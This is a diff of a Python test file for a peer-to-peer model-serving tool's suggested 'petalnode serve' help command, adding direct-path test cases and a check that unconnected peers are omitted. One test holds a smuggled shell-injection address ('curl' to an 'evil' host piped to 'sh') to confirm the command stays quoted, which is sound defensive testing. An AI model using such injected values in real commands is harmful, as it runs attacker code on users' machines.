@@ -65,13 +65,15 @@ def test_coverage_ends_with_the_model() -> None:
 
 def test_the_command_that_would_help_serves_what_is_missing() -> None:
     address = "/ip4/192.0.2.7/tcp/4001"
-    told = swarm_report(state(server((0, 2), addrs=(address,)), server((5, 6), 1)))["help"]
+    told = swarm_report(state(server((0, 2), addrs=(address,), path="direct"), server((5, 6), 1)))["help"]
     assert told["command"] == f"petalnode serve tiny --blocks 2:5 --peer {address}/p2p/{PEERS[0]}"
     assert "blocks 2:5" in told["text"]
     two = swarm_report(state(server((2, 3))))["help"]
     assert "--blocks 0:2" in two["command"] and "0:2, 3:6" in two["text"]
     joined = swarm_report(state(server((0, 2), addrs=(address,)), peers=("/ip4/192.0.2.1/tcp/1/p2p/x",)))["help"]
     assert joined["command"].endswith("--peer /ip4/192.0.2.1/tcp/1/p2p/x")
+    gone = swarm_report(state(server((0, 2), addrs=(address,))))["help"]  # not connected: it may be dead
+    assert "--peer" not in gone["command"]
     assert swarm_report(state())["help"]["command"] == "petalnode serve tiny --blocks 0:6"
 
 
@@ -85,7 +87,7 @@ def test_one_server_more_helps_where_there_is_only_one() -> None:
 def test_what_a_person_copies_into_a_shell_is_words_only(model: str) -> None:
     """Addresses are written by strangers: a name in one may hold whatever a shell understands."""
     address = "/dns4/x;curl$IFS'evil|sh`/tcp/1"
-    command = swarm_report(state(server((0, 2), addrs=(address,)), model=model))["help"]["command"]
+    command = swarm_report(state(server((0, 2), addrs=(address,), path="direct"), model=model))["help"]["command"]
     words = shlex.split(command)
     assert words == ["petalnode", "serve", model, "--blocks", "2:6", "--peer", f"{address}/p2p/{PEERS[0]}"]
 
